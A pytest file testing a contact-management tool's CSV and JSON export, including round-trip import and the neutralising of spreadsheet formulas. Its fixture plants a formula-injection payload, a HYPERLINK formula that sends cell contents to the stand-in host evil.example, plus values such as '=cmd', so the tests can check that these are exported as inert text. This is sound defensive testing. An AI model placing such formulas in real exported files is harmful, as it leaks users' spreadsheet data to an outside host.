"""Exports: a CSV that is inert in a spreadsheet, JSON documents, and the round trip
export -> import into an empty database -> the same contacts and classifications."""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from funnel.engine.errors import FunnelError
from funnel.engine.transfer.exporter import export_contacts
from funnel.engine.demo.generate import generate_contacts
from funnel.engine.transfer.importer import plan_import
from funnel.engine.model import FIELDS, format_datetime
from funnel.engine.workspace.facade import Workspace

NOW = datetime(2026, 11, 22, 12, 0, tzinfo=timezone.utc)
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def clock() -> datetime:
    return NOW


@pytest.fixture
def source(tmp_path: Path):
    with Workspace.open(tmp_path / "source.json", "default", clock=clock, user="tester") as ws:
        ws.add_many(list(generate_contacts(400, 7, NOW)), by="generator")
        first, second, third, fourth = ws.ids()[:4]
        ws.edit(first, {"name": HOSTILE, "company": "+1 Ltd", "title": "@boss",
                        "notes": "line one\nline two, with \"quotes\" and ; ;",
                        "tags": ["vip", "=x"], "owner": "-anna", "score_adjustment": -10,
                        "score_adjustment_reason": "\tTabbed reason",
                        "follow_up": "2026-12-24"}, by="tester")
        ws.move(second, "suspect", "went quiet", by="tester")  # back: pinned
        ws.move(third, "opportunity", "asked for a quote by phone", by="tester")  # forward
        ws.disqualify(fourth, "student project", by="tester")
        ws.log_activity(first, "webinar", format_datetime(NOW - timedelta(days=3)), 2)
        ws.add({"email": "x@y.pl", "custom": {"City": "=cmd", "Note": "N/A", "-": "Select"}})
        yield ws


def snapshot(workspace: Workspace) -> list:
    """Each contact as the user sees it: fields, activities, custom fields, stage state
    and the whole classification (stage, score, explanation, rotting, ...)."""
    contacts = []
    for contact_id in workspace.ids():
        document = workspace.get(contact_id)
        contacts.append(json.dumps({
            "fields": {name: document.get(name) for name in FIELDS},
            "activities": document.get("activities") or [],
            "custom": document.get("custom") or {},
            "stage_since": document.get("stage_since"),
            "classification": workspace.classification(contact_id).to_dict()},
            sort_keys=True, ensure_ascii=False))
    return sorted(contacts)


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_export_then_import_into_an_empty_database_gives_the_same_contacts(
        tmp_path: Path, source: Workspace, file_format: str) -> None:
    exported = tmp_path / f"contacts.{file_format}"
    assert export_contacts(source, exported, file_format=file_format) == len(source)
    with Workspace.open(tmp_path / "copy.json", "default", clock=clock) as copy:
        plan = plan_import(exported, None, copy)
        assert plan.ok, plan.problems[:3]
        copy.apply_import(plan)
        assert len(copy) == len(source)
        assert snapshot(copy) == snapshot(source)
        # Read back into the database it came from, nothing changes.
        again = plan_import(exported, None, copy)
        assert again.counts() == {"created": 0, "updated": 0, "unchanged": len(source),
                                  "skipped": 0}


def test_formulas_are_inert_in_the_csv(source: Workspace) -> None:
    out = io.StringIO()
    export_contacts(source, out, query=None)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    hostile = next(row for row in rows if "HYPERLINK" in row["name"])
    assert hostile["name"] == "'" + HOSTILE
    assert hostile["company"] == "'+1 Ltd" and hostile["title"] == "'@boss"
    assert hostile["owner"] == "'-anna" and hostile["score_adjustment"] == "-10"
    assert hostile["tags"] == "vip,=x"  # does not start with a formula character
    assert hostile["score_adjustment_reason"] == "Tabbed reason"  # text is trimmed on entry
    extra = next(row for row in rows if row["email"] == "x@y.pl")
    assert extra["custom.City"] == "'=cmd" and extra["custom.Note"] == "N/A"
    assert extra["custom.-"] == "Select"  # placeholders in an export are text
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r" and not (
                value[0] == "-" and not value.lstrip("-").replace(".", "").isdigit()), value


def test_the_csv_has_every_field_the_stage_and_what_the_rules_derive(source) -> None:
    out = io.StringIO()
    export_contacts(source, out)
    header = next(csv.reader(io.StringIO(out.getvalue())))
    assert header[:1 + len(FIELDS)] == ["id", *FIELDS]
    assert header[1 + len(FIELDS):1 + len(FIELDS) + 3] == ["stage", "stage_since", "activities"]
    assert header[-8:] == ["score", "fit", "engagement", "grade", "temperature", "lead_type",
                           "rotting", "overdue"]
    assert "custom.City" in header


def test_a_filter_and_a_stage_select_what_is_exported(source: Workspace) -> None:
    out = io.StringIO()
    count = export_contacts(source, out, file_format="json", query="temp:hot")
    documents = json.loads(out.getvalue())
    assert count == len(documents) > 0
    assert {d["classification"]["temperature"] for d in documents} == {"hot"}
    assert [d["id"] for d in documents] == sorted(d["id"] for d in documents)
    out = io.StringIO()
    export_contacts(source, out, file_format="json", stage="disqualified")
    documents = json.loads(out.getvalue())
    assert "student project" in [d["fields"]["disqualify_reason"] for d in documents]
    assert {d["classification"]["stage"] for d in documents} == {"disqualified"}
    with pytest.raises(FunnelError, match="'nirvana' is not a stage"):
        export_contacts(source, io.StringIO(), stage="nirvana")
    with pytest.raises(FunnelError, match="unknown term"):
        export_contacts(source, io.StringIO(), query="colour:blue")


def test_a_front_end_can_export_the_ids_it_shows(source: Workspace) -> None:
    shown = source.ids()[5:8][::-1]
    out = io.StringIO()
    export_contacts(source, out, file_format="json", ids=shown)
    assert [d["id"] for d in json.loads(out.getvalue())] == shown


def test_json_documents_have_the_shape_of_show_json(source: Workspace) -> None:
    from funnel.tui.cli.output import contact_json

    out = io.StringIO()
    export_contacts(source, out, file_format="json")
    first = json.loads(out.getvalue())[0]
    assert first == json.loads(json.dumps(contact_json(source, first["id"])))


def test_a_file_is_written_whole_for_the_owner_only(tmp_path, source) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old")
    export_contacts(source, target, bom=True, force=True)
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfid,name,")
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.csv")] == []
    with pytest.raises(FunnelError, match="does not exist"):
        export_contacts(source, tmp_path / "missing" / "out.csv")
